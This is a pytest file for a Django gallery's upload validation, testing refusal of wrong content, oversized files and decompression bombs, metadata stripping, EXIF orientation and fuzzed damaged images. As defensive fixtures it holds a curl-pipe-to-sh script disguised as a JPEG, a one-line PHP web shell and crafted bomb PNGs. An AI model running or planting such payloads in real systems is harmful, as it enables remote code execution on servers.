"""Uploads refused by content, size and pixels; what is kept is upright and without metadata."""

import io
import random
import struct
import warnings
import zlib

import pytest
from django.core.exceptions import ValidationError
from PIL import Image, ImageFile

from secretariat.core.permissions import SYSTEM
from secretariat.gallery import images, services
from secretariat.gallery.images import MAX_BYTES, guard_decompression_bombs, photo_clean

from .conftest import MAKE, ORIENTATION, camera_exif, jpeg_bytes, upload

pytestmark = pytest.mark.django_db

TOO_MANY_PIXELS = "This image has more than 40 million pixels"


def png_header_claiming(width, height):
    """A PNG whose header claims width × height pixels and which holds no pixel data at all."""

    def chunk(kind, data):
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IEND", b"")


def bilevel_png(width, height):
    """A real, fully decodable 1-bit PNG: a few kilobytes on disk, width × height when decoded."""
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()


def refusal(content, name="photo.jpg"):
    with pytest.raises(ValidationError) as refused:
        photo_clean(upload(content, name))
    return " ".join(refused.value.messages)


def test_a_script_renamed_jpg_is_refused_for_its_content():
    script = b"#!/bin/sh\ncurl https://example.org/x | sh\n"
    assert "content is not an accepted kind (JPEG, PNG)" in refusal(script, "holiday.jpg")


def test_a_100_megapixel_header_is_refused_before_any_decoding():
    # 10000 × 10000 claimed, no pixel data: decoding would fail as "damaged", not as too large.
    assert TOO_MANY_PIXELS in refusal(png_header_claiming(10_000, 10_000), "huge.png")


def test_an_image_over_the_limit_but_under_pillows_own_is_refused_too():
    # 50 megapixels: Pillow's bomb guard (89 MP) lets it through; the gallery's limit does not.
    assert TOO_MANY_PIXELS in refusal(png_header_claiming(10_000, 5_000), "big.png")


def test_a_real_100_megapixel_image_is_refused_even_where_warnings_are_only_printed():
    content = bilevel_png(10_000, 10_000)
    assert len(content) < 100_000  # cheap to send: the danger is in the decoding
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # as in production, where a warning alone stops nothing
        guard_decompression_bombs()  # what the app does at start-up
        assert TOO_MANY_PIXELS in refusal(content, "bomb.png")


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_truncated_image_is_refused_as_incomplete_even_after_weasyprint_is_loaded(kind):
    import weasyprint  # noqa: F401 (on import, it lets Pillow load truncated images)

    assert ImageFile.LOAD_TRUNCATED_IMAGES  # the lenient setting the gallery must not inherit
    out = io.BytesIO()
    Image.open(io.BytesIO(jpeg_bytes(1600, 1200))).save(out, kind)
    whole = out.getvalue()
    assert "damaged or incomplete" in refusal(whole[: len(whole) // 2], f"cut.{kind.lower()}")
    assert ImageFile.LOAD_TRUNCATED_IMAGES  # and PDFs keep theirs


def test_an_oversized_file_is_refused_for_its_size():
    content = jpeg_bytes(64, 64) + b"\0" * MAX_BYTES
    assert "the limit is 15.0\xa0MB" in refusal(content)


def _stored(photo):
    """The bytes of the stored full size and of each rendition."""
    storage = photo.image.storage
    names = [photo.image.name, *(r["name"] for r in photo.renditions)]
    out = []
    for name in names:
        with storage.open(name) as file:
            out.append(file.read())
    return out


def test_location_and_camera_data_are_gone_from_every_stored_file(gallery):
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b"<exif:GPSLatitude>6,10.5S</exif:GPSLatitude></x:xmpmeta>"
    )
    original = io.BytesIO()
    Image.open(io.BytesIO(jpeg_bytes())).save(
        original, "JPEG", exif=camera_exif(), xmp=xmp, quality=85
    )
    content = original.getvalue()
    assert Image.open(io.BytesIO(content)).getexif()[MAKE] == "PhoneMaker"  # the test can fail
    photo = services.photo_add(gallery=gallery, by=SYSTEM, upload=upload(content), caption_en="x")
    files = _stored(photo)
    assert len(files) == 4  # the full size and three renditions
    for data in files:
        assert b"PhoneMaker" not in data and b"Pocket 12" not in data and b"GPSLatitude" not in data
        with Image.open(io.BytesIO(data)) as stored:
            assert not stored.getexif()
            assert "exif" not in stored.info and "xmp" not in stored.info


# EXIF orientation -> the stored picture's size and where its red top-left corner shows.
TURNED = {
    1: ((1600, 1200), "top-left"),
    2: ((1600, 1200), "top-right"),  # mirrored
    3: ((1600, 1200), "bottom-right"),  # upside down
    6: ((1200, 1600), "top-right"),  # taken with the phone turned: shown turned clockwise
    8: ((1200, 1600), "bottom-left"),  # shown turned anticlockwise
}


def _red_corner(image):
    rgb = image.convert("RGB")
    w, h = rgb.size
    corners = {
        "top-left": (2, 2),
        "top-right": (w - 3, 2),
        "bottom-left": (2, h - 3),
        "bottom-right": (w - 3, h - 3),
    }
    red = [name for name, xy in corners.items() if rgb.getpixel(xy)[0] > 180]
    assert len(red) == 1, red
    return red[0]


@pytest.mark.parametrize("orientation", list(TURNED))
def test_an_image_turned_by_its_exif_orientation_is_stored_upright(gallery, orientation):
    # Stored 1600 × 1200 with its red corner top-left; the EXIF says how to show it.
    content = jpeg_bytes(1600, 1200, exif=camera_exif(orientation=orientation))
    photo = services.photo_add(gallery=gallery, by=SYSTEM, upload=upload(content), caption_en="x")
    size, corner = TURNED[orientation]
    assert (photo.width, photo.height) == size
    for data in _stored(photo):
        with Image.open(io.BytesIO(data)) as stored:
            assert ORIENTATION not in stored.getexif()
            assert _red_corner(stored) == corner
            assert (stored.width > stored.height) == (size[0] > size[1])


def test_a_picture_longer_than_webp_can_store_is_refused():
    content = png_header_claiming(500, 20_000)  # 10 megapixels, but 20,000 pixels high
    assert "more than 16,000 pixels wide or high" in refusal(content, "strip.png")


@pytest.mark.filterwarnings("ignore::UserWarning")  # Pillow warns of the damaged EXIF it skips
def test_damaged_files_are_refused_or_kept_never_a_server_error():
    """Bytes changed at random in a JPEG with camera EXIF, and in a PNG: each upload is either
    refused with a message or kept; Pillow's own errors never escape (found by this test:
    a damaged EXIF value broke the EXIF re-write of ImageOps.exif_transpose)."""
    jpeg = jpeg_bytes(300, 200, exif=camera_exif(orientation=6))
    out = io.BytesIO()
    Image.open(io.BytesIO(jpeg)).save(out, "PNG")
    rnd = random.Random(30)  # a seed that reaches the damaged-EXIF case
    outcomes = {"kept": 0, "refused": 0}
    for source in (jpeg, out.getvalue()):
        for _ in range(400):
            damaged = bytearray(source)
            for _ in range(rnd.randint(1, 6)):
                position = rnd.randrange(2, min(len(damaged), 400))
                damaged[position] = rnd.randrange(256)
            try:
                photo_clean(upload(bytes(damaged)))
            except ValidationError:
                outcomes["refused"] += 1
            else:
                outcomes["kept"] += 1
    assert outcomes["kept"] and outcomes["refused"]


def test_renditions_are_made_in_three_widths_with_the_photos_proportions(gallery):
    content = jpeg_bytes(1600, 1200)
    photo = services.photo_add(gallery=gallery, by=SYSTEM, upload=upload(content), caption_en="x")
    assert [(r["width"], r["height"]) for r in photo.renditions] == [
        (320, 240),
        (640, 480),
        (1280, 960),
    ]
    for rendition, data in zip(photo.renditions, _stored(photo)[1:], strict=True):
        with Image.open(io.BytesIO(data)) as stored:
            assert stored.format == "WEBP"
            assert stored.size == (rendition["width"], rendition["height"])
    with photo.image.open() as full, Image.open(full) as stored:
        assert stored.format == "JPEG" and stored.size == (1600, 1200)


def test_a_small_photo_gets_a_rendition_at_its_own_width():
    clean = photo_clean(upload(jpeg_bytes(500, 300)))
    assert [(r.width, r.height) for r in clean.renditions] == [(320, 192), (500, 300)]


def test_a_png_with_transparency_stays_a_png():
    out = io.BytesIO()
    Image.new("RGBA", (400, 300), (0, 0, 0, 0)).save(out, "PNG")
    clean = photo_clean(upload(out.getvalue(), "slide.png"))
    assert clean.kind == "png" and clean.extension == "png"
    assert Image.open(io.BytesIO(clean.full.content)).mode == "RGBA"


def test_a_refused_upload_leaves_no_photo_and_no_file(gallery, settings):
    with pytest.raises(ValidationError):
        services.photo_add(
            gallery=gallery, by=SYSTEM, upload=upload(b"<?php system($_GET[1]);"), caption_en="x"
        )
    assert not gallery.photos.exists()
    media = settings.MEDIA_ROOT
    assert not media.exists() or not any(p.is_file() for p in media.rglob("*"))


def test_the_limits_are_the_documented_ones():
    assert images.MAX_PIXELS == 40_000_000 and images.WIDTHS == (320, 640, 1280)
